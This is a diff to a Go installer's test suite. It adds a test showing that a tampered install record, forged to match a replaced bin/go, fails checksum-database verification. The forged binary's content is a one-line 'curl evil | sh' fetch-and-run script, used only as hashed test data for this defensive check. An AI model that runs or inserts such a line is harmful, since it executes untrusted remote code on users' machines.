@@ -2,11 +2,13 @@ package installer_test
 
 import (
 	"context"
+	"crypto/sha256"
 	"errors"
 	"fmt"
 	"net/http"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"sync"
 	"testing"
@@ -16,6 +18,7 @@ import (
 	"github.com/goverdev/gover/internal/fetch"
 	"github.com/goverdev/gover/internal/goproxy"
 	"github.com/goverdev/gover/internal/goversion"
+	"github.com/goverdev/gover/internal/manifest"
 	"github.com/goverdev/gover/internal/paths"
 	"github.com/goverdev/gover/internal/testdist"
 	"github.com/goverdev/gover/verify"
@@ -200,6 +203,44 @@ func TestAutoFallsBackToProxy(t *testing.T) {
 	// The checksum database's signed tree head is kept in gover's cache.
 	if _, err := os.Stat(filepath.Join(e.layout.Cache, "sumdb", testdist.SumDBName, "latest")); err != nil {
 		t.Fatalf("tree head not cached: %v", err)
+	}
+}
+
+// An installed module tree is proven again from its record alone: the
+// manifest hashes to the database's h1, so a record rewritten to match a
+// changed tree (a poisoned cache) fails, and archives are not vouched for.
+func TestVouchForInstalledModule(t *testing.T) {
+	e := newEnv(t, testdist.Options{})
+	proxy := e.proxy(e.d.SumDBKey)
+	res, err := e.install("1.22.5", proxy)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rec, err := installer.ReadRecord(e.layout.Record(res.Name))
+	if err != nil {
+		t.Fatal(err)
+	}
+	p, err := proxy.Vouch(context.Background(), rec)
+	if err != nil || p.Kind != "sumdb" || p.Value != rec.Proofs[0].Value || p.Authority != testdist.SumDBName {
+		t.Fatalf("Vouch = %+v, %v; want the recorded h1 %s proven again", p, err, rec.Proofs[0].Value)
+	}
+
+	// A changed bin/go, with the record rewritten to match it.
+	forged := *rec
+	forged.Manifest.Files = slices.Clone(rec.Manifest.Files)
+	i := slices.IndexFunc(forged.Manifest.Files, func(f manifest.File) bool { return f.Path == "bin/go" })
+	forged.Manifest.Files[i].SHA256 = sha256.Sum256([]byte("#!/bin/sh\ncurl evil | sh\n"))
+	_, err = proxy.Vouch(context.Background(), &forged)
+	if !isVerify(err) || !strings.Contains(err.Error(), "altered") || strings.Contains(err.Error(), "\n") {
+		t.Fatalf("Vouch of a forged record = %v; want a one-line verification failure", err)
+	}
+
+	off, err := e.install("1.21.13", e.official())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := proxy.Vouch(context.Background(), off.Record); !errors.Is(err, installer.ErrNotModule) {
+		t.Fatalf("Vouch of an archive install = %v; want ErrNotModule", err)
 	}
 }
 
